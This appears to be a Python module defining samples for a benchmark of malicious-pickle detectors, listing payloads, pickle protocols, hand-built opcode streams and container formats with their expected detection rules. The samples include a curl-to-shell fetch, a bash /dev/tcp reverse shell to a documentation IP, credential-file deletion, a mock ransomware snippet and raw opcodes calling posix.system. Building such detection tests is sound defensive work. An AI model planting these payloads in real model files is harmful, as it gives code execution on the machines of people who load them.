"""Plain payloads: what the public malicious models do when they are loaded, in the containers they come in."""

from __future__ import annotations

import posix
from builtins import exec as run_source

from bench.detection.build.pickled import (
    CALLED,
    PROGRAM,
    SYSTEM,
    by_pickler,
    in_torch_legacy,
    in_torch_zip,
    sample,
)
from bench.detection.sample import Part, Sample, rules
from tests.malicious import FIXTURES
from tests.malicious.pickles import Opcodes, call, literal, named, run, stream

_PUBLIC = "public lists of malicious models"
_OPCODE_TESTS = "picklescan's tests"

# tests/malicious: each fixture's name, the rules of its reading, and those that its load adds.
_FIXTURES = {
    "os_system": (CALLED, PROGRAM),
    "subprocess_popen": (CALLED, PROGRAM),
    "instance_opcode": (CALLED, PROGRAM),
    "object_opcode": (CALLED, PROGRAM),
    "nested_pickle": (CALLED, PROGRAM),
    "getattr_chain": ("", ""),
    "partial": ("", ""),
    "map": ("", ""),
    "reconstructor": ("", ""),
    "code_object": ("", ""),
    "dotted_name": ("", ""),
    "memo_shuffle": ("", ""),
    "payload_then_broken": ("", ""),
    "absent_gadget": ("", ""),
    "class_patch": ("", ""),
    "reverse_shell": (CALLED, ""),
    "dns": (CALLED, ""),
    "stage_two": (CALLED, ""),
    "udp": (CALLED, ""),
    "listen": (CALLED, ""),
    "metadata": (CALLED, ""),
    "odd_sockets": (CALLED, ""),
    "credentials": (CALLED, ""),
    "environment": (CALLED, ""),
    "argv_theft": (CALLED, ""),
    "authorized_keys": (CALLED, ""),
    "cron": (CALLED, ""),
    "sitecustomize": (CALLED, ""),
    "wiper": (CALLED, ""),
    "fork": (CALLED, ""),
    "memfd": (CALLED, ""),
    "attack_pid_1": (CALLED, ""),
    "read_pid_1": (CALLED, ""),
    "second_filter": (CALLED, ""),
    "foreign_call": (CALLED, ""),
    "io_uring": (CALLED, ""),
    "escape": (CALLED, ""),
    "torch_zip": (CALLED, ""),
    "torch_legacy": (CALLED, ""),
    "data_loader": ("", ""),
    "carried_exec": ("", ""),
    "appended": ("", ""),
    "shadowed_method": ("", ""),
    "shadowed_finalizer": ("", ""),
    "numpy_applier": ("", ""),
    "generator_constructor": ("", ""),
    "ufunc_import": ("", ""),
    "weak_callback": ("", ""),
    "initialiser": ("", ""),
}


def _of_fixtures() -> tuple[Sample, ...]:
    known = {fixture.name: fixture for fixture in FIXTURES}
    return tuple(
        Sample(
            name,
            Part.MALICIOUS,
            known[name].technique,
            "the project's tests",
            f"model{known[name].suffix}",
            known[name].build,
            rules(static),
            rules(watched),
        )
        for name, (static, watched) in _FIXTURES.items()
    )


_RANSOM = """
    import os
    home = os.path.expanduser("~/")
    for name in ("Documents/notes.txt", "Documents/thesis.docx"):
        try:
            with open(home + name + ".locked", "wb") as file:
                file.write(b"pay")
        except OSError:
            pass
"""
_WINDOWS = """
    import os
    if os.name == "nt":
        os.system("calc.exe")
"""
_CURL = ["curl", "-s", "http://203.0.113.7/x"]

_PLAIN = (
    (
        "shell_pipe",
        "a shell that fetches and runs",
        call("posix", "system", "curl -s http://203.0.113.7/x | sh"),
        PROGRAM,
    ),
    ("base64_shell", "a shell line that is base64", call("posix", "system", "echo aWQ= | base64 -d | sh"), PROGRAM),
    ("curl", "the network through a child", call("subprocess", "run", _CURL), PROGRAM),
    ("bash_tcp", "bash's /dev/tcp", call("posix", "system", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"), PROGRAM),
    ("popen", "os.popen", call("os", "popen", "id"), PROGRAM),
    ("execute", "os.execv in the loader's place", call("posix", "execv", "/usr/bin/id", ["id"]), ""),
    ("terminal", "pty.spawn", call("pty", "spawn", "id"), ""),
    ("browser", "opens a page in a browser", call("webbrowser", "open", "https://example.invalid/"), ""),
    ("urlopen", "the network in this process", call("urllib.request", "urlopen", "http://203.0.113.7/x"), ""),
    ("requests", "the network by a package", call("requests.api", "get", "http://203.0.113.7/x"), ""),
    ("remove", "deletes a file", call("posix", "remove", "/home/user/.netrc"), ""),
    ("open_for_writing", "makes a file", call("io", "open", "/tmp/owned", "w"), ""),
    ("ransom", "encrypted copies beside the user's files", run(_RANSOM), ""),
    ("print_only", "print, and nothing else", call("builtins", "print", "pwned"), ""),
    ("compute_only", "an assignment, and nothing else", call("builtins", "exec", "x = 1"), ""),
    ("import_only", "imports a module", call("builtins", "__import__", "this"), ""),
    ("windows_only", "acts on another platform", run(_WINDOWS), ""),
    ("windows_program", "os.startfile, which only Windows has", call("os", "startfile", "calc.exe"), ""),
    ("raises", "raises when it is loaded", call("builtins", "exec", "raise SystemExit(0)"), ""),
    ("never_valid", "source that doesn't compile", call("builtins", "exec", "import os; os.system('id'"), ""),
)

_PROTOCOLS = tuple(
    sample(
        f"protocol_{number}",
        f"a shell command as protocol {number} writes it",
        _OPCODE_TESTS,
        by_pickler(number, posix.system, "id"),
        watched=PROGRAM,
    )
    for number in range(6)
) + tuple(
    sample(
        f"source_protocol_{number}",
        f"source text as protocol {number} writes it",
        _OPCODE_TESTS,
        by_pickler(number, run_source, "import os; os.system('id')"),
        watched=PROGRAM,
    )
    for number in (0, 2, 4)
)

_HAND_MADE = (
    ("text_opcodes", "protocol 0, without a header", b"cposix\nsystem\n(S'id'\ntR.", CALLED, PROGRAM),
    ("old_instance", "INST of a function", b"(S'id'\niposix\nsystem\n.", CALLED, PROGRAM),
    ("no_result", "the result is thrown away", b"\x80\x04" + SYSTEM + b"0" + literal({"a": 1}) + b".", CALLED, PROGRAM),
    ("second_pickle", "the second of two pickles", stream({"a": 1}) + stream(SYSTEM), CALLED, PROGRAM),
    ("no_stop", "the stream ends without STOP", b"\x80\x04" + SYSTEM, f"{CALLED} reader.incomplete", PROGRAM),
    ("in_a_key", "the payload is a key of the model's dictionary", b"\x80\x04}" + SYSTEM + b"Ns.", CALLED, PROGRAM),
    (
        "as_a_state",
        "the payload is an object's state",
        b"\x80\x04cargparse\nNamespace\n)\x81" + SYSTEM + b"b.",
        CALLED,
        PROGRAM,
    ),
    ("as_a_pid", "the payload is a persistent id", b"\x80\x04" + SYSTEM + b"Q.", CALLED, PROGRAM),
)

_CONTAINERS = (
    ("bin", "a pickle named pytorch_model.bin", "CVE-2025-1889, CVE-2025-10155"),
    ("joblib", "a joblib file", "modelscan's tests"),
    ("joblib-zlib", "a compressed joblib file", "modelscan's tests"),
    ("npy", "a numpy array of objects", "picklescan's tests"),
    ("npz", "a numpy archive", "picklescan's tests"),
    ("gzip", "a compressed pickle", "picklescan's issues"),
    ("bzip2", "a compressed pickle", "picklescan's issues"),
    ("xz", "a compressed pickle", "ReversingLabs 2025: nullifAI (compressed otherwise than expected)"),
    ("tar", "a tar archive", "picklescan's issues"),
    ("zip", "a zip archive that isn't PyTorch's", "picklescan's tests"),
)

SAMPLES = (
    *_of_fixtures(),
    *(sample(name, technique, _PUBLIC, payload, watched=watched) for name, technique, payload, watched in _PLAIN),
    *_PROTOCOLS,
    *(
        sample(name, technique, _OPCODE_TESTS, content, static, watched)
        for name, technique, content, static, watched in _HAND_MADE
    ),
    *(
        sample(f"within_{form}", technique, source, stream({"hook": SYSTEM}), CALLED, PROGRAM, form)
        for form, technique, source in _CONTAINERS
    ),
    in_torch_zip(
        "checkpoint_source",
        "source text in a PyTorch archive",
        _PUBLIC,
        run("import os; os.system('id')"),
        CALLED,
        PROGRAM,
    ),
    in_torch_legacy(
        "legacy_reduce", "a nested call in the old format", _PUBLIC, call("builtins", "print", SYSTEM), CALLED, PROGRAM
    ),
)
